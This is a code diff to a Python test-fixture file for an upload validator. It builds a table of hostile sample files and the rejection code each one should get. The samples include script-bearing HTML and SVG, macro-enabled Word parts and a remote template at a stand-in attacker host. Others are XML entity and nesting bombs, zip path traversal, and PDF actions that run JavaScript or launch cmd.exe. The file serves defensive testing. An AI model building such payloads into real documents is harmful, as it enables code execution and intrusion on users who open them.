@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import zipfile
+from collections.abc import Callable
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -114,47 +115,6 @@ def raw_pdf(catalog: str = "", *, trailer: str = "") -> bytes:
 LOCKED = f"/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"
 
 
-def hostile() -> dict[str, tuple[str, bytes, str]]:
-    """What must not be taken: (name, content, code of the sentence that is said)."""
-    good, good_pdf = docx(WORDS), pdf()
-    evil = "http://attacker.example/x.dotm"
-    doctype = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><w:document xmlns:w="{W}"/>'
-    deep = "<w:tbl>" * 5_000
-    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
-    sheet = _archive({"[Content_Types].xml": b"<T/>", "xl/workbook.xml": b"<w/>"})
-    return {
-        "empty": ("a.docx", b"", "document_empty"),
-        "blank": ("a.docx", b"  \n", "document_empty"),
-        "program": ("a.docx", b"MZ" + b"\0" * 500, "document_wrong_type"),
-        "page": ("a.docx", b"<html><script>alert(1)</script></html>", "document_wrong_type"),
-        "drawing with a script": ("a.docx", b"<svg onload='alert(1)'/>", "document_wrong_type"),
-        "any archive": ("a.docx", _archive({"a.txt": b"x"}), "document_damaged"),
-        "a sheet": ("a.docx", sheet, "document_wrong_type"),
-        "macro": ("a.docm", docx(WORDS, more={"word/vbaProject.bin": b"\0" * 99}), "document_macros"),
-        "macro by its type": ("a.docx", docx(WORDS, types=macro_type), "document_macros"),
-        "embedded object": ("a.docx", docx(WORDS, more={"word/embeddings/oleObject1.bin": b"x"}), "document_active"),
-        "template from outside": ("a.docx", docx(relations=relation("attachedTemplate", evil)), "document_active"),
-        "object from outside": ("a.docx", docx(WORDS, relations=relation("oleObject", evil)), "document_active"),
-        "page inside": ("a.docx", docx(WORDS, relations=relation("aFChunk", "x.html", "Internal")), "document_active"),
-        "entities": ("a.docx", docx(more={"word/document.xml": doctype.encode()}), "document_bomb"),
-        "deep": ("a.docx", docx(body=deep), "document_bomb"),
-        "bomb": ("a.docx", lying_bomb(), "document_bomb"),
-        "path inside": ("a.docx", docx(WORDS, more={"../../evil.xml": b"x"}), "document_damaged"),
-        "cut short": ("a.docx", good[: len(good) // 2], "document_damaged"),
-        "password": ("a.docx", (SHEETS / "password.xlsx").read_bytes(), "document_password"),
-        "old Word": ("a.doc", (SHEETS / "not-a-book.ole").read_bytes(), "document_old_word"),
-        "PDF with a script": ("a.pdf", raw_pdf("/OpenAction << /S /JavaScript /JS (a()) >>"), "document_active"),
-        "PDF that starts a program": ("a.pdf", raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "document_active"),
-        "PDF with a password": ("a.pdf", raw_pdf(trailer=LOCKED), "document_password"),
-        "PDF cut short": ("a.pdf", good_pdf[:200], "document_damaged"),
-        "PDF in name alone": ("a.pdf", b"%PDF-1.7 nothing follows", "document_damaged"),
-        "photo cut short": ("a.jpg", photo()[:2_000], "document_damaged"),
-        "photo of an iPhone": ("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 200, "photo_heic"),
-        "picture bomb": ("a.png", _huge_png(), "photo_too_large"),
-        "too large": ("a.pdf", b"%PDF-1.7" + b"\0" * (20 << 20), "document_too_large"),
-    }  # fmt: skip
-
-
 def _archive(parts: dict[str, bytes]) -> bytes:
     made = BytesIO()
     with zipfile.ZipFile(made, "w") as archive:
@@ -168,3 +128,62 @@ def _huge_png() -> bytes:
     made = BytesIO()
     Image.new("1", (20_000, 20_000)).save(made, "PNG")
     return made.getvalue()
+
+
+EVIL = "http://attacker.example/x.dotm"
+DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><w:document xmlns:w="{W}"/>'
+MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
+HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    "empty": ("a.docx", lambda: b"", "document_empty"),
+    "blank": ("a.docx", lambda: b"  \n", "document_empty"),
+    "program": ("a.docx", lambda: b"MZ" + b"\0" * 500, "document_wrong_type"),
+    "page": ("a.docx", lambda: b"<html><script>alert(1)</script></html>", "document_wrong_type"),
+    "drawing with a script": ("a.docx", lambda: b"<svg onload='alert(1)'/>", "document_wrong_type"),
+    "any archive": ("a.docx", lambda: _archive({"a.txt": b"x"}), "document_damaged"),
+    "a sheet": (
+        "a.docx",
+        lambda: _archive({"[Content_Types].xml": b"<T/>", "xl/workbook.xml": b"<w/>"}),
+        "document_wrong_type",
+    ),
+    "macro": ("a.docm", lambda: docx(WORDS, more={"word/vbaProject.bin": b"\0" * 99}), "document_macros"),
+    "macro by its type": ("a.docx", lambda: docx(WORDS, types=MACRO_TYPE), "document_macros"),
+    "embedded object": (
+        "a.docx",
+        lambda: docx(WORDS, more={"word/embeddings/oleObject1.bin": b"x"}),
+        "document_active",
+    ),
+    "template from outside": ("a.docx", lambda: docx(relations=relation("attachedTemplate", EVIL)), "document_active"),
+    "object from outside": ("a.docx", lambda: docx(WORDS, relations=relation("oleObject", EVIL)), "document_active"),
+    "page inside": (
+        "a.docx",
+        lambda: docx(WORDS, relations=relation("aFChunk", "x.html", "Internal")),
+        "document_active",
+    ),
+    "entities": ("a.docx", lambda: docx(more={"word/document.xml": DOCTYPE.encode()}), "document_bomb"),
+    "deep": ("a.docx", lambda: docx(body="<w:tbl>" * 5_000), "document_bomb"),
+    "bomb": ("a.docx", lambda: lying_bomb(), "document_bomb"),
+    "path inside": ("a.docx", lambda: docx(WORDS, more={"../../evil.xml": b"x"}), "document_damaged"),
+    "cut short": ("a.docx", lambda: docx(WORDS)[:-400], "document_damaged"),
+    "password": ("a.docx", lambda: (SHEETS / "password.xlsx").read_bytes(), "document_password"),
+    "old Word": ("a.doc", lambda: (SHEETS / "not-a-book.ole").read_bytes(), "document_old_word"),
+    "PDF with a script": ("a.pdf", lambda: raw_pdf("/OpenAction << /S /JavaScript /JS (a()) >>"), "document_active"),
+    "PDF that starts a program": (
+        "a.pdf",
+        lambda: raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
+        "document_active",
+    ),
+    "PDF with a password": ("a.pdf", lambda: raw_pdf(trailer=LOCKED), "document_password"),
+    "PDF cut short": ("a.pdf", lambda: pdf()[:200], "document_damaged"),
+    "PDF in name alone": ("a.pdf", lambda: b"%PDF-1.7 nothing follows", "document_damaged"),
+    "photo cut short": ("a.jpg", lambda: photo()[:2_000], "document_damaged"),
+    "photo of an iPhone": ("a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 200, "photo_heic"),
+    "picture bomb": ("a.png", lambda: _huge_png(), "photo_too_large"),
+    "too large": ("a.pdf", lambda: b"%PDF-1.7" + b"\0" * (20 << 20), "document_too_large"),
+}
+"""What must not be taken: name, what makes its content (some take a second), code of the sentence that is said."""
+
+
+def hostile(kind: str) -> tuple[str, bytes, str]:
+    """(name, content, code) of one of those."""
+    name, make, code = HOSTILE[kind]
+    return name, make(), code
